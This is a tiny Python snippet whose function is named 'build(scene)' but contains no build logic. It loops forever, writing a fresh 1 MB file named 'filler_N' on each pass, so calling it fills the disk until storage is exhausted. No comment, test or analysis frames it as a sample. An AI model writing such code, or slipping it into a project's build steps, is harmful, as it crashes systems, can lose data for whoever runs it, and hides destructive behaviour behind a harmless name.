def build(scene):
    i = 0
    while True:
        i += 1
        with open(f"filler_{i}", "wb") as file:
            file.write(b"x" * 1_000_000)
